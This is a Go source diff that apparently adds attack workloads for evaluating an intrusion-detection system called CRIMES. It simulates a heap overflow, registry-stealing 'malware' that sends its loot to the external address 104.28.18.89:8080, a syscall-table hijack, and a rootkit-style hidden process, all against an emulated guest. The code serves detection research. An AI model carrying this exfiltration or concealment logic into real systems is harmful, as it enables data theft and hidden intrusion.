@@ -1,0 +1,95 @@
+package workload
+
+import (
+	"bytes"
+	"fmt"
+
+	"repro/internal/guestos"
+)
+
+// Attacks used by the evaluation's case studies and tests. Each runs as
+// ordinary guest activity inside an epoch; CRIMES must find the
+// evidence afterwards.
+
+// InjectOverflow performs a heap buffer overflow: it writes size+spill
+// bytes into a size-byte allocation, overrunning the trailing canary
+// (§5.5 Case Study 1). Returns the allocation VA.
+func InjectOverflow(g *guestos.Guest, pid uint32, size, spill int) (uint64, error) {
+	va, err := g.Malloc(pid, size)
+	if err != nil {
+		return 0, fmt.Errorf("overflow attack: %w", err)
+	}
+	payload := bytes.Repeat([]byte{0x41}, size+spill)
+	if err := g.WriteUser(pid, va, payload); err != nil {
+		return 0, fmt.Errorf("overflow attack: %w", err)
+	}
+	return va, nil
+}
+
+// MalwareServer is the aggregation host the §5.6 "malware" exfiltrates
+// to (104.28.18.89:8080 in the paper's report).
+var MalwareServer = [4]byte{104, 28, 18, 89}
+
+// MalwarePort is the aggregation server's port.
+const MalwarePort = 8080
+
+// InjectMalware launches the case-study malware: a reg_read.exe process
+// that reads the registry hive, writes the gathered data to a file, and
+// transmits it to an external host (§5.6). Returns the malware's PID.
+func InjectMalware(g *guestos.Guest) (uint32, error) {
+	pid, err := g.StartProcess("reg_read.exe", 500, 4)
+	if err != nil {
+		return 0, fmt.Errorf("malware attack: %w", err)
+	}
+	keys, err := g.ReadRegistry()
+	if err != nil {
+		return 0, fmt.Errorf("malware attack: %w", err)
+	}
+	var loot bytes.Buffer
+	loot.WriteString("HKLM registry dump\n")
+	for _, k := range keys {
+		fmt.Fprintf(&loot, "%s=%s\n", k.Path, k.Value)
+	}
+	if _, err := g.OpenFile(pid, `\Device\HarddiskVolume2\Windows`); err != nil {
+		return 0, fmt.Errorf("malware attack: %w", err)
+	}
+	if _, err := g.OpenFile(pid, `\Device\HarddiskVolume2\Users\root\Desktop`); err != nil {
+		return 0, fmt.Errorf("malware attack: %w", err)
+	}
+	if _, err := g.OpenFile(pid, `\Device\HarddiskVolume2\Users\root\Desktop\write_file.txt`); err != nil {
+		return 0, fmt.Errorf("malware attack: %w", err)
+	}
+	if err := g.WriteDisk(pid, `\Users\root\Desktop\write_file.txt`, loot.Bytes()); err != nil {
+		return 0, fmt.Errorf("malware attack: %w", err)
+	}
+	if _, err := g.OpenSocket(pid, MalwareServer, MalwarePort); err != nil {
+		return 0, fmt.Errorf("malware attack: %w", err)
+	}
+	if err := g.SendPacket(pid, MalwareServer, MalwarePort, loot.Bytes()); err != nil {
+		return 0, fmt.Errorf("malware attack: %w", err)
+	}
+	return pid, nil
+}
+
+// InjectSyscallHijack overwrites a syscall table entry with a rogue
+// handler, the kernel-level attack the integrity module detects.
+func InjectSyscallHijack(g *guestos.Guest, index int) error {
+	rogue := g.Profile().KernelVirtBase + 0xdead000
+	if err := g.HijackSyscall(index, rogue); err != nil {
+		return fmt.Errorf("syscall hijack attack: %w", err)
+	}
+	return nil
+}
+
+// InjectHiddenProcess starts a process and DKOM-unlinks it from the
+// task list, rootkit style. Returns its PID.
+func InjectHiddenProcess(g *guestos.Guest, name string) (uint32, error) {
+	pid, err := g.StartProcess(name, 0, 4)
+	if err != nil {
+		return 0, fmt.Errorf("hidden process attack: %w", err)
+	}
+	if err := g.HideProcess(pid); err != nil {
+		return 0, fmt.Errorf("hidden process attack: %w", err)
+	}
+	return pid, nil
+}
